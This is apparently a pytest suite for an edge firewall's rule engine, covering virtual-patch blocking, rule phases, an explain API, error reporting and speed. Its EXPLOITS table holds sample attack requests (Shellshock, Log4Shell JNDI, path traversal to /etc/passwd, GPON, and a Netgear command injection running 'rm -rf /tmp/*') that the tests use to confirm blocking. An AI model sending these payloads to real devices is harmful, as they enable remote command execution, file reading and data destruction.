"""Virtual patches: one rule stops an exploit for every device, at once."""
import json
import time

import pytest

from edge import slowness, until

EXPLOITS = {
    "shellshock": ('http.user_agent matches r"\\(\\)\\s*\\{"', "/cgi-bin/status", {"User-Agent": "() { :;}; /bin/ping -c1 203.0.113.9"}),
    "gpon": ('http.request.uri.path eq "/GponForm/diag_Form" and http.request.uri.query contains "images/"',
             "/GponForm/diag_Form?images/", {}),
    "traversal": ('url_decode(http.request.uri.path, "r") contains "../"', "/static/..%252f..%252fetc/passwd", {}),
    "log4shell": ('any(http.request.headers["x-api-version"][*] contains "${jndi:")', "/", {"X-Api-Version": "${jndi:ldap://x/a}"}),
    "netgear": ('http.request.uri.path wildcard "*/setup.cgi" and http.request.uri.query contains "cmd="',
                "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*", {}),
}


@pytest.fixture(autouse=True)
def no_rules(edge):
    yield
    edge.ruleset([])


@pytest.mark.parametrize("name", EXPLOITS)
def test_exploit_stops_at_its_rule(edge, origin, app, host, lamp, name):
    expression, path, headers = EXPLOITS[name]
    with edge.client(host, lamp) as c:
        assert c.get(path, *headers.items()).status == 200
        rule = edge.add_rule(expression, description=name)
        answer = c.get(path, *headers.items())
        assert answer.status == 403, answer
        assert c.get("/readings").status == 200
    assert [r.path for r in origin.requests].count("/readings") == 1 and len(origin.requests) == 2
    record = edge.wait_record(Host=host, Action="block")
    assert record["PolicyID"] == rule and record["PolicyName"] == name and record["DeviceID"] == lamp.id


def test_in_force_when_the_api_answers(edge, origin, app, host, lamp):
    """Every connection, every worker, at the very next request; and out of force just so."""
    clients = [edge.client(host, lamp) for _ in range(8)]
    for c in clients:
        assert c.get("/x").status == 200
    for _ in range(10):
        rule = edge.ruleset([{"expression": 'http.request.uri.path eq "/x"', "action": "block"}])
        assert [c.get("/x").status for c in clients] == [403] * 8
        edge.api("DELETE", f"/zones/{edge.zone()}/rulesets/{rule['id']}/rules/{rule['rules'][0]['id']}")
        assert [c.get("/x").status for c in clients] == [200] * 8
    for c in clients:
        c.close()


def test_custom_response(edge, app, host, lamp):
    edge.add_rule('http.request.uri.path eq "/gone"', action_parameters={
        "response": {"status_code": 418, "content": '{"no":"tea"}', "content_type": "application/json"}})
    answer = edge.get(host, "/gone", lamp)
    assert answer.status == 418 and answer.json == {"no": "tea"}
    assert answer.get("content-type") == "application/json"


def test_log_passes_and_is_recorded(edge, origin, app, host, lamp):
    rule = edge.add_rule('http.request.uri.path eq "/watched"', "log")
    assert edge.get(host, "/watched", lamp).status == 200
    assert rule in edge.wait_record(Host=host, Path="/watched")["LoggedPolicyIDs"]


def test_allow_ends_the_phase(edge, app, host, lamp):
    edge.ruleset([{"expression": f'device.id eq "{lamp.id}"', "action": "allow"},
                  {"expression": "true", "action": "block"}])
    assert edge.get(host, "/", lamp).status == 200


def test_skip(edge, app, host, lamp):
    edge.ruleset([{"expression": 'http.request.method eq "GET"', "action": "skip", "action_parameters": {"ruleset": "current"}},
                  {"expression": "true", "action": "block"}])
    with edge.client(host, lamp) as c:
        assert c.get().status == 200
        assert c.request("POST", "/", body=b"x").status == 403


def test_rewrite_headers(edge, origin, app, host, lamp):
    edge.ruleset([{"expression": "true", "action": "rewrite", "action_parameters": {"headers": {
        "X-Fleet": {"operation": "set", "value": "lamps"}, "X-Secret": {"operation": "remove"}}}}],
        phase="http_request_late_transform")
    edge.get(host, "/", lamp, [("X-Secret", "1"), ("X-Fleet", "forged")])
    got = origin.requests[0]
    assert got.all("x-fleet") == ["lamps"] and got.get("x-secret") is None
    edge.ruleset([], phase="http_request_late_transform")


def test_device_and_tls_fields(edge, origin, app, host, lamp):
    edge.add_rule('device.class eq "lamps" and tls.client.cert_verified and not cf.tls_client_auth.cert_revoked '
                  'and http.request.uri.path eq "/mine"')
    assert edge.get(host, "/mine", lamp).status == 403
    assert edge.get(host, "/other", lamp).status == 200


def test_lists(edge, app, host, lamp):
    made = edge.api("POST", "/accounts/{account}/rules/lists", {"name": "bad_agents", "kind": "ip"})
    edge.add_rule("ip.src in $bad_agents")
    assert edge.get(host, "/", lamp).status == 200
    edge.api("POST", f"/accounts/{{account}}/rules/lists/{made['id']}/items", [{"ip": "127.0.0.0/8"}])
    until(lambda: edge.get(host, "/", lamp).status == 403)
    edge.ruleset([])
    edge.api("DELETE", f"/accounts/{{account}}/rules/lists/{made['id']}")


def test_connection_phase(edge, origin, app, host, lamp):
    other = edge.device("by-connection")
    edge.ruleset([{"expression": f'device.id eq "{other.id}"', "action": "block"}], phase="connection")
    try:
        try:
            assert edge.get(host, "/", other).status == 403
        except (AssertionError, OSError) as error:
            assert "403" not in str(error)
        assert not origin.requests
        assert edge.get(host, "/", lamp).status == 200
    finally:
        edge.ruleset([], phase="connection")


def test_disabled(edge, app, host, lamp):
    edge.add_rule("true", enabled=False)
    assert edge.get(host, "/", lamp).status == 200


@pytest.mark.parametrize("expression, words, column", [
    ('http.hots eq "a"', "http.host", 1),
    ('http.host eq "a" adn ssl', "and", 18),
    ('http.host eq', "a string in quotes", 13),
    ('http.request.method eq 7', "", 24),
    ('ip.src in $nosuchlist', "nosuchlist", 12),
    ('startswith(http.host, "a")', "starts_with", 1),
    ('http.host matches "("', "", 20),
], ids=lambda v: str(v)[:24].replace("/", ""))
def test_errors_say_where(edge, expression, words, column):
    reply = edge.reply("PUT", f"/zones/{edge.zone()}/rulesets/phases/http_request/entrypoint",
                       {"rules": [{"expression": "true", "action": "log"}, {"expression": expression, "action": "block"}]})
    assert reply.status == 400
    error = reply.json["errors"][0]
    assert error["source"]["pointer"].startswith("/rules/1")
    assert words.lower() in error["message"].lower(), error
    if column:
        assert f"line 1, column {column})" in error["message"], error


def test_bad_change_leaves_the_good_state(edge, app, host, lamp):
    edge.add_rule('http.request.uri.path eq "/kept"')
    edge.reply("PUT", f"/zones/{edge.zone()}/rulesets/phases/http_request/entrypoint", {"rules": [{"expression": "nonsense(", "action": "block"}]})
    assert edge.get(host, "/kept", lamp).status == 403


def test_dry_run_changes_nothing(edge, app, host, lamp):
    reply = edge.reply("PUT", f"/zones/{edge.zone()}/rulesets/phases/http_request/entrypoint?dry_run=true",
                       {"rules": [{"expression": "true", "action": "block"}]})
    assert reply.status == 200 and reply.json["result"] is None
    assert edge.get(host, "/", lamp).status == 200


def test_explain(edge, app, host, lamp):
    edge.ruleset([{"expression": 'http.request.uri.path eq "/a"', "action": "log", "description": "first"},
                  {"expression": 'http.user_agent contains "evil"', "action": "block", "description": "second"}])
    told = edge.api("POST", "/accounts/{account}/explain", {"device": lamp.id, "request": {
        "method": "GET", "host": host, "path": "/a", "headers": {"user-agent": "evil 1.0"}}})
    text = json.dumps(told)
    assert text.index("first") < text.index("second")
    assert "block" in text and "not_matched" not in text.split("second")[1][:400]
    done = edge.cli("explain", lamp.name, f"GET https://{host}/a", check=0)
    assert "evil" in done.stdout and "outcome    pass" in done.stdout


PHASES = ("packet", "connection", "http_config_settings", "http_request", "http_ratelimit", "http_request_firewall_managed",
          "http_request_dynamic_redirect", "http_request_transform", "http_request_late_transform", "http_response_firewall_managed",
          "http_custom_errors", "http_response", "http_response_compression")


def test_explain_covers_every_phase(edge, app, host, lamp):
    """Also of packets and of answers: what the request tells, and, where it is said, what the origin would answer."""
    limit = {"characteristics": ["device.id"], "period": 60, "requests_per_period": 1000}
    try:
        for phase in PHASES:
            rule = {"expression": "true", "action": "log", "description": "of " + phase, **({"ratelimit": limit} if phase == "http_ratelimit" else {})}
            edge.ruleset([rule], phase=phase, zone=phase != "packet")
        edge.ruleset([{"expression": "http.response.code ge 500", "action": "block", "description": "of a failure"},
                      {"expression": f'http.host eq "{host}" and not http.response.code lt 200', "action": "log", "description": "of this host"}],
                     phase="http_response_firewall_managed")
        ask = {"device": lamp.id, "request": {"method": "GET", "host": host, "path": "/", "src": "192.0.2.1"}}
        told = edge.api("POST", "/accounts/{account}/explain", ask)
        assert [p for p in PHASES if p in {r["phase"] for r in told["rules"]}] == list(PHASES)
        said = {r["description"]: r for r in told["rules"]}
        assert said["of packet"]["result"] in ("matched", "not_in_force") and said["of http_response"]["result"] == "matched"
        for name in ("of a failure", "of this host"):
            assert said[name]["result"] == "cannot_know"
            assert said[name]["because"] == [{"expression": "http.response.code is known when the origin has answered"}]
        assert told["outcome"]["outcome"] == "forwarded"
        told = edge.api("POST", "/accounts/{account}/explain", {**ask, "request": {**ask["request"], "response": {"code": 503}}})
        said = {r["description"]: r for r in told["rules"]}
        assert said["of a failure"]["result"] == "matched" and said["of this host"]["result"] == "not_reached"
        assert told["outcome"]["outcome"] == "refused" and told["outcome"]["reason"] == "a rule blocked the answer of the origin"
        done = edge.cli("explain", lamp.name, f"GET https://{host}/", "--answer", "503", "--answer-header", "Server: x", check=0)
        assert "of a failure  block: matched" in done.stdout and "outcome    refused" in done.stdout, done.stdout
        done = edge.cli("explain", lamp.name, f"GET https://{host}/", "--answer", "5030")
        assert done.returncode == 2 and "--answer wants a status code" in done.stderr
        assert edge.get(host, "/", lamp).status == 200
        past = edge.api("POST", "/accounts/{account}/explain", {"record": edge.wait_record(Host=host, Type="request")["RayID"]})
        assert {r["phase"] for r in past["rules"]} == set(PHASES), past
    finally:
        for phase in PHASES:
            edge.ruleset([], phase=phase, zone=phase != "packet")


def test_operators_tests_gate_apply(edge, app, host, lamp, tmp_path):
    good = {"tests": [{"name": "exploit", "request": {"method": "GET", "host": host, "path": "/cgi-bin/x"}, "expect": {"action": "block"}},
                      {"name": "reading", "request": {"method": "POST", "host": host, "path": "/readings"}, "expect": {"action": "pass"}}]}
    tests = tmp_path / "tests.json"
    tests.write_text(json.dumps(good))
    edge.add_rule('http.request.uri.path contains "/cgi-bin/"')
    done = edge.cli("rule", "test", str(tests), "--zone", "edge.test")
    assert done.returncode == 0, done
    edge.ruleset([{"expression": "true", "action": "block"}])
    done = edge.cli("rule", "test", str(tests), "--zone", "edge.test")
    assert done.returncode == 1 and "reading" in done.stdout + done.stderr, done


def late(edge):
    """(calls of the API that were told of, those of them that made way for workers within 50 ms)"""
    return tuple(edge.metric(f"ringfence_control_late_seconds_{which}", **labels)
                 for which, labels in (("count", {}), ("bucket", {"le": "0.05"})))


def test_a_replacement_of_many_makes_way_for_workers(edge, app):
    """All of them, then so many that how to undo it is kept. No stretch of a call is as long as a loop over all rules that does not
    give way; in processor time, so whatever else runs. (Sanitizers make all of it several times slower; bench/run swap has figures.)"""
    before = late(edge)
    for first in (0, 20000, 25000):
        edge.ruleset([{"expression": f'http.request.uri.path eq "/way/{i}"', "action": "block"} for i in range(first, first + 20000)])
    edge.ruleset([])
    calls, good = (now - then for now, then in zip(late(edge), before))
    assert calls >= 4 and good == calls


def test_fast_enough(edge, app, host, lamp):
    """Rule changes among 2,000 rules: far below any human's patience, sanitizers and all."""
    edge.ruleset([{"expression": f'http.request.uri.path eq "/p{i}"', "action": "block"} for i in range(2000)])
    start = time.monotonic()
    edge.add_rule('http.request.uri.path eq "/now"')
    took = time.monotonic() - start
    assert edge.get(host, "/now", lamp).status == 403
    assert took < 2 * slowness(), f"{took:.3f} s"
